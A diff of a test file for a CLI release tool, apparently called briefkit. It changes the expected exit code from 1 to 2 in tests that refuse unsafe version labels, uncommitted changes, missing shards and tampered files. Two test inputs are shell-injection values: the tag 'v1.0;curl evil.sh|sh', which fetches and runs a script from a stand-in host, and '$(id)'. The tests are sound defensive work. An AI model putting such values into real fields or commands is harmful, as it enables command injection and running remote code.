@@ -340,7 +340,7 @@ describe('release: bad input stops it before anything is built', () => {
       cwd: root,
       env: { ...env, GITHUB_REF_TYPE: 'tag', GITHUB_REF_NAME: 'v1.0;curl evil.sh|sh' },
     });
-    expect(result.code).toBe(1);
+    expect(result.code).toBe(2);
     expect(result.stderr).toContain(
       'briefkit: Version label "v1.0;curl evil.sh|sh" (from the tag) has unsafe characters (`;`, space, `|`): use letters, digits, dots, hyphens, underscores and plus signs, such as v1.2.3',
     );
@@ -348,7 +348,7 @@ describe('release: bad input stops it before anything is built', () => {
 
   it('refuses an unsafe --version', async () => {
     const result = await runCli(['release', '--dry-run', '--version', '$(id)'], { cwd: root, env });
-    expect(result.code).toBe(1);
+    expect(result.code).toBe(2);
     expect(result.stderr).toContain('Version label "$(id)" (from --version) has unsafe characters');
   });
 
@@ -356,7 +356,7 @@ describe('release: bad input stops it before anything is built', () => {
     await commitAll(root, sourceDateEpoch);
     await writeFile(join(root, 'content', 'harbor', 'brief.md'), 'changed after the commit\n');
     const result = await runCli(['release'], { cwd: root, env });
-    expect(result.code).toBe(1);
+    expect(result.code).toBe(2);
     expect(result.stderr).toContain(
       'briefkit: Uncommitted changes (content/harbor/brief.md): a release is built from a commit. Commit them, or try it with --dry-run',
     );
@@ -386,7 +386,7 @@ describe('release in shards, collected (real build)', () => {
     expect(one.stderr).toContain('shard 1/2: 5 file(s) built');
     expect(existsSync(join(root, 'output', 'manifest.shard-1-of-2.json'))).toBe(true);
     const early = await runCli(['release', '--dry-run', '--collect'], { cwd: root, env });
-    expect(early.code).toBe(1);
+    expect(early.code).toBe(2);
     expect(early.stderr).toContain('Shard(s) 2 of 2 are missing from');
   });
 
@@ -401,7 +401,7 @@ describe('release in shards, collected (real build)', () => {
   it('refuses to attach a file that changed after it was built', async () => {
     await writeFile(join(root, 'output', 'harbor', 'deck.pdf'), 'tampered');
     const collected = await runCli(['release', '--dry-run', '--collect'], { cwd: root, env });
-    expect(collected.code).toBe(1);
+    expect(collected.code).toBe(2);
     expect(collected.stderr).toContain(
       'harbor/deck.pdf is not the file the build wrote (its checksum differs): build again',
     );
